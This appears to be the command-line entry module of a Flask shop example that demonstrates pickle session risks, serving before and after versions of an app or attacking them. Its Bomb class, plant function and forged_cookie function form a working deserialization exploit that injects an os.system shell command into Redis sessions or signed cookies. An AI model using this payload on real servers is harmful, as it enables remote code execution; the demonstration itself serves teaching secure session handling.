"""`python -m examples.flask_shop`: serves one of the apps, or attacks the sessions it stores."""

from __future__ import annotations

import argparse
import importlib
import os
import pickle
from typing import TYPE_CHECKING, Any

import msgspec
from flask.sessions import SecureCookieSessionInterface
from werkzeug.serving import make_server

from examples.flask_shop import store
from plainpickle.session import SessionSerializer

if TYPE_CHECKING:
    from flask import Flask

APPS = {
    "redis": "article",
    "cookie": "article",
    "flask-session": "flask_session",
}


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m examples.flask_shop", description=__doc__)
    parser.add_argument(
        "sessions",
        nargs="?",
        choices=APPS,
        default="redis",
        help="how they are kept: by the old Redis snippet, in cookies, by Flask-Session 0.8",
    )
    parser.add_argument("--legacy", action="store_true", help="as it was: with pickle")
    parser.add_argument("--port", type=int, default=8000, help="0 for any that is free")
    parser.add_argument(
        "--attack",
        metavar="COMMAND",
        help="serve nothing: plant a shell command in every session, as whoever can write to the "
        "store, or forge a cookie with one, as whoever has the key",
    )
    options = parser.parse_args()
    os.environ["SHOP_SESSIONS"] = options.sessions
    form = "before" if options.legacy or options.attack else "after"
    app = importlib.import_module(f"examples.flask_shop.{APPS[options.sessions]}_{form}").app
    if options.attack and options.sessions == "cookie":
        print(forged_cookie(app, options.attack))
    elif options.attack:
        print(f"planted in {plant(options.attack)} sessions")
    else:
        serve(app, options.port)


def serve(app: Flask, port: int) -> None:
    """Serves until it is interrupted."""
    server = make_server("127.0.0.1", port, app, threaded=True)
    print(f"http://127.0.0.1:{server.port}/ by {app.import_name}; Ctrl-C ends it", flush=True)
    server.serve_forever()


class Bomb:
    """What runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def plant(command: str) -> int:
    """Adds a key to each stored session that runs a command, and says how many there are."""
    redis = store.client()
    names = list(redis.scan_iter(match="session:*"))
    for name in names:
        session = {**read(redis.get(name)), "promotion": Bomb(command)}
        redis.setex(name, 24 * 60 * 60, pickle.dumps(session))
    return len(names)


def read(stored: bytes) -> Any:
    """What a visitor has by now: pickle, JSON, or Flask-Session's msgpack."""
    try:
        return msgspec.msgpack.decode(stored)
    except msgspec.DecodeError:
        return SessionSerializer().loads(stored)


def forged_cookie(app: Flask, command: str) -> str:
    """A session cookie with the pickle of a command where the view expects one of its own."""
    signing = SecureCookieSessionInterface().get_signing_serializer(app)
    assert signing is not None
    user_info = pickle.dumps({"name": "customer", "credit": Bomb(command)})
    return str(signing.dumps({"user_info": user_info, "cart": {"mill": 1}}))


if __name__ == "__main__":
    main()
